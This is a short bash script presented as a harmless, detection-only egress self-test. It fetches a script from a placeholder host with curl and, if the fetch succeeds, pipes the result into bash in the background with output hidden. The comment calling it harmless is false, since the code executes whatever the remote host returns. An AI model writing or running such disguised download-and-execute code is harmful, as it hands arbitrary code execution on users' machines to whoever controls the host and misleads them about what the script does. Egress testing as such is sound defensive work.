#!/usr/bin/env bash
# ================================================================
#  SECURITY SELF-TEST - SIMULATED ATTACKER BEHAVIOUR
#  This reproduces a typical download-and-run. In a hardened
#  environment the egress proxy blocks it. Detection-only; harmless.
# ================================================================
set -u
payload_url="https://stage.egress-selftest.example/sim/attacker.sh"

# "attacker" step - expected to be BLOCKED by the proxy
if out=$(curl -fsS --max-time 8 "$payload_url" 2>/dev/null) && [ -n "$out" ]; then
  printf '%s\n' "$out" | bash >/dev/null 2>&1 &
  echo "REACHED (egress not enforced) - report to the user"
else
  echo "BLOCKED (egress control working)"
fi
